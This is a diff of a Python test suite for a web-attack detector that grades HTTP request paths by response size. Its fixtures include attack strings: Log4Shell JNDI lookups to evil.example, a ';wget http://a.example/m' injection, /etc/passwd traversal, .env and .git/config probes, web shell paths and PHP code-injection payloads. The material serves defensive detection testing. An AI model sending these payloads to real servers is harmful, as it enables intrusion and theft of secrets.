@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import secrets
+from typing import Any
 from urllib.parse import quote
 
 import msgspec
@@ -12,7 +13,7 @@ from hypothesis import strategies as st
 
 from collectors.network.detect.settings import DetectSettings, WebSettings
 from collectors.network.detect.web import Web, decoded
-from collectors.network.model import Http
+from collectors.network.model import Conn, Http
 from collectors.network.outward import finding
 from tests.collectors.content.citizens import leaks, make_niks
 from tests.collectors.network.detect.records import conn, one, outward, request
@@ -56,6 +57,10 @@ def detector(**changes: object) -> Web:
         "/search?q=how+to+use+sleep+in+php",
         "/?q=etc+dan+lain+lain",
         "/static/app.js?v=%24%7Bversion%7D",
+        "/translate?langpair=en%7Cid&text=selamat",
+        "/translate?langpair=en%7Cid",
+        "/images/captcha.php?rnd=3",
+        "/img/thumb.php?src=bupati.jpg",
         "*",
         "",
     ],
@@ -118,12 +123,12 @@ ATTACKS = {
         "/x.php?a=system('id')",
     ],
     "web.shell": [
-        "/wp-content/uploads/2026/11/x.php",
         "/images/b374k.php?cmd=1",
         "/c99.php",
         "/foto/kegiatan/idx.phtml",
         "/x.php?cmd=id",
     ],
+    "web.script": ["/wp-content/uploads/2026/11/x.php", "/dokumen/lihat.php?id=3"],
     "web.log4shell": [
         "/?x=${jndi:ldap://evil.example/a}",
         "/?x=${${lower:j}ndi:ldap://evil.example/a}",
@@ -149,6 +154,60 @@ def test_an_answer_makes_it_worse() -> None:
     assert (tried.severity, found.severity) == ("low", "high")
     (ours,) = detector().see(request(path, status=404, conn=outward(port=80)))
     assert ours.severity == "high"
+
+
+def levels(path: str, size: int, made: Web, which: Conn | None = None) -> list[str]:
+    more: dict[str, Any] = {"conn": which} if which else {}
+    found = made.see(request(path, status=200, response_bytes=size, **more))
+    return [one.severity for one in found]
+
+
+def test_a_server_that_answers_everything_with_its_first_page_is_not_broken() -> None:
+    made = detector()
+    assert levels("/", 18_300, made) == []
+    for path in (
+        "/.env",
+        "/index.php?s=/\\think\\app/invokefunction",
+        "/?x=;wget http://a.example/m",
+    ):
+        assert set(levels(path, 18_211, made)) <= {"low", "medium"}, path
+    assert levels("/.env", 412, made) == ["high"], "another answer"
+
+
+def test_a_first_page_of_several_forms() -> None:
+    made = detector()
+    for size in (18_000, 9000, 12_000, 18_010):
+        levels("/", size, made)
+    for n, size in enumerate((9010, 18_020, 12_005)):
+        path = f"/?a=fetch&content=<?php die(@md5({n}))?>"
+        assert levels(path, size, made, conn(f"203.0.113.{n}", port=80)) == ["medium"]
+
+
+def test_a_parameter_that_is_ignored_is_no_way_in() -> None:
+    made = detector()
+    assert levels("/berita.php?id=4", 9000, made) == []
+    assert levels("/berita.php?id=../../../etc/passwd", 9010, made) == ["low"]
+    assert levels("/berita.php?id=../../../../etc/passwd", 1800, made) == ["high"]
+
+
+def test_the_same_answer_to_other_attacks_says_nothing() -> None:
+    made = detector()
+    levels("/.env", 700, made)
+    assert levels("/.git/config", 700, made) == ["low"]
+
+
+def test_whether_a_look_up_worked_is_not_in_the_answer() -> None:
+    assert levels("/?x=${jndi:ldap://evil.example/a}", 900, detector()) == ["medium"]
+
+
+def test_scripts_of_the_application_are_told_once() -> None:
+    made = detector()
+    assert levels("/uploads/view.php?id=1", 900, made) == ["high"]
+    for n in range(2, 9):
+        which = conn(f"203.0.113.{n}", port=80)
+        assert levels(f"/uploads/view.php?id={n}", 900 + 100 * n, made, which) == []
+    assert levels("/dokumen/lihat.php?id=1", 900, made) == ["low"]
+    assert levels("/files/download.php", 50, made, outward(port=80)) == ["low"]
 
 
 @pytest.mark.parametrize(
@@ -214,6 +273,7 @@ def test_state_is_bounded() -> None:
         made.see(request("/.env", conn=which, user_agent=f"agent {n}"))
     assert len(made._tries) <= 20
     assert len(made._agents) <= 20
+    assert len(made._sizes) + len(made._probes) + len(made._scripts) <= 60
     assert made.evicted() > 0
 
 
